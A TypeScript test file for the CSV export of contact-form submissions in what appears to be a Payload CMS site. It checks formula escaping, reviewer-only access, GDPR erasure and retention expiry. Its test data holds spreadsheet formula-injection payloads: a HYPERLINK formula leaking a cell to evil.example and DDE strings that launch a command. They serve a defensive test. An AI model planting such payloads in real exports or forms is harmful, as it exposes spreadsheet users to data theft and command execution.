import fs from 'node:fs'
import path from 'node:path'

import { parse } from 'csv-parse/sync'
import type { Payload, TypedUser } from 'payload'

import { deleteExpiredSubmissions } from '@/lib/contact/retention'
import { deleteExpiredExports } from '@/lib/exports/retention'

import { startPayload } from '../helpers/payload'

/**
 * CSV exports of contact submissions: the reviewers' alone, safe to open in a spreadsheet, and
 * gone with the submissions they hold (GDPR erasure, retention) or after EXPORT_RETENTION_HOURS.
 */
let payload: Payload
let stop: () => Promise<void>
const users = {} as Record<'admin' | 'editor' | 'reviewer', TypedUser>

const hostile = {
  name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  organisation: "+cmd|' /C calc'!A0",
  message: "@SUM(1+1)*cmd|' /C calc'!A0",
}
const HOUR = 60 * 60 * 1000

const submit = (data: Record<string, unknown>) =>
  payload.create({
    collection: 'form-submissions',
    data: { topic: 'other', locale: 'en', consent: true, message: 'Hello', ...data } as never,
    overrideAccess: true,
  })

/** An export as the admin's export drawer makes it, then the job that writes its file. */
async function exportAs(user: TypedUser, where: Record<string, unknown> = {}) {
  const made = await payload.create({
    collection: 'exports',
    data: { collectionSlug: 'form-submissions', format: 'csv', where } as never,
    overrideAccess: false,
    user,
  })
  await payload.jobs.run({ limit: 10 })
  return payload.findByID({ collection: 'exports', id: made.id, depth: 0 })
}

const fileOf = (doc: { filename?: string | null }) => path.resolve('data/exports', doc.filename!)
const rowsOf = (doc: { filename?: string | null }) =>
  parse(fs.readFileSync(fileOf(doc)), { columns: true, bom: true }) as Record<string, string>[]
const exists = async (id: number | string) =>
  (await payload.count({ collection: 'exports', where: { id: { equals: id } } })).totalDocs === 1
const refused = (run: () => Promise<unknown>) =>
  run().then(
    () => false,
    (error: { status?: number }) => {
      if (error.status === 403 || error.status === 400) return true
      throw error
    },
  )

beforeAll(async () => {
  ;({ payload, stop } = await startPayload('exports'))
  for (const role of ['admin', 'editor', 'reviewer'] as const)
    users[role] = (await payload.create({
      collection: 'users',
      data: {
        email: `${role}@exports.example.eu`,
        password: 'correct-horse-battery-staple',
        roles: [role],
      } as never,
    })) as TypedUser
}, 120_000)
afterAll(() => stop?.())

describe('exports of contact submissions', () => {
  it('neutralises cells a spreadsheet would run as formulas, and keeps the text', async () => {
    await submit({ ...hostile, email: 'hostile@example.eu' })
    await submit({ name: '\t=1+1', email: 'tab@example.eu', message: '-2+3' })
    await submit({ name: 'Ana Ferreira', email: 'ana@example.pt', message: 'Olá = bom dia' })
    const doc = await exportAs(users.reviewer, { email: { like: 'example' } })
    const rows = rowsOf(doc)
    const byEmail = Object.fromEntries(rows.map((row) => [row.email, row]))
    expect(byEmail['hostile@example.eu']).toMatchObject({
      name: `'${hostile.name}`,
      organisation: `'${hostile.organisation}`,
      message: `'${hostile.message}`,
    })
    expect(byEmail['tab@example.eu']).toMatchObject({ name: "'\t=1+1", message: "'-2+3" })
    // Text that only contains such characters is left as it is.
    expect(byEmail['ana@example.pt']).toMatchObject({
      name: 'Ana Ferreira',
      message: 'Olá = bom dia',
    })
    for (const row of rows)
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('is the reviewers’ and admins’ alone', async () => {
    const doc = await exportAs(users.reviewer)
    const asEditor = { overrideAccess: false, user: users.editor } as const
    expect(await refused(() => payload.find({ collection: 'exports', ...asEditor }))).toBe(true)
    expect(
      await refused(() => payload.findByID({ collection: 'exports', id: doc.id, ...asEditor })),
    ).toBe(true)
    expect(
      await refused(() => payload.delete({ collection: 'exports', id: doc.id, ...asEditor })),
    ).toBe(true)
    expect(
      await refused(() =>
        payload.create({
          collection: 'exports',
          data: { collectionSlug: 'form-submissions', format: 'csv' } as never,
          ...asEditor,
        }),
      ),
    ).toBe(true)
    const { docs } = await payload.find({
      collection: 'exports',
      overrideAccess: false,
      user: users.admin,
    })
    expect(docs.map((d) => d.id)).toContain(doc.id)
  })

  it('accepts no file from staff', async () => {
    const file = { name: 'notes.txt', data: Buffer.from('hello'), mimetype: 'text/plain', size: 5 }
    for (const user of [users.reviewer, users.admin]) {
      await expect(
        payload.create({
          collection: 'exports',
          data: { collectionSlug: 'form-submissions', format: 'csv' } as never,
          file,
          overrideAccess: false,
          user,
        }),
      ).rejects.toMatchObject({ status: 400 })
    }
    expect(
      (await payload.count({ collection: 'exports', where: { filename: { like: 'notes' } } }))
        .totalDocs,
    ).toBe(0)
  })

  it('goes when a person’s submissions are erased, and only the files that hold them', async () => {
    await submit({ name: 'Erase Me', email: 'erase-me@example.eu' })
    await submit({ name: 'Keep Me', email: 'keep-me@example.eu' })
    const holding = await exportAs(users.reviewer)
    const other = await exportAs(users.reviewer, { email: { equals: 'keep-me@example.eu' } })
    expect(rowsOf(holding).map((r) => r.email)).toContain('erase-me@example.eu')
    expect(fs.existsSync(fileOf(holding))).toBe(true)

    // The README's GDPR procedure: filter by the email, select all, delete.
    await payload.delete({
      collection: 'form-submissions',
      where: { email: { equals: 'erase-me@example.eu' } },
      overrideAccess: false,
      user: users.reviewer,
    })
    expect(await exists(holding.id)).toBe(false)
    expect(fs.existsSync(fileOf(holding))).toBe(false)
    expect(await exists(other.id)).toBe(true)
    expect(rowsOf(other).map((r) => r.email)).toEqual(['keep-me@example.eu'])
  })

  it('goes with the submissions the retention job deletes', async () => {
    const doc = await exportAs(users.reviewer)
    expect(doc.submissions?.length).toBeGreaterThan(0)
    await deleteExpiredSubmissions(payload, 365, Date.now() + 366 * 24 * HOUR)
    expect(await exists(doc.id)).toBe(false)
  })

  it('expires EXPORT_RETENTION_HOURS after it was made, by a task on the maintenance queue', async () => {
    await submit({ name: 'Later', email: 'later@example.eu' })
    const doc = await exportAs(users.admin)
    expect(await deleteExpiredExports(payload, 24, Date.now() + 23 * HOUR)).toBe(0)
    expect(await exists(doc.id)).toBe(true)
    expect(await deleteExpiredExports(payload, 24, Date.now() + 25 * HOUR)).toBeGreaterThan(0)
    expect(await exists(doc.id)).toBe(false)
    expect(fs.existsSync(fileOf(doc))).toBe(false)
    const task = payload.config.jobs.tasks?.find((t) => t.slug === 'deleteExpiredExports')
    expect(task?.schedule).toEqual([expect.objectContaining({ queue: 'maintenance' })])
  })
})
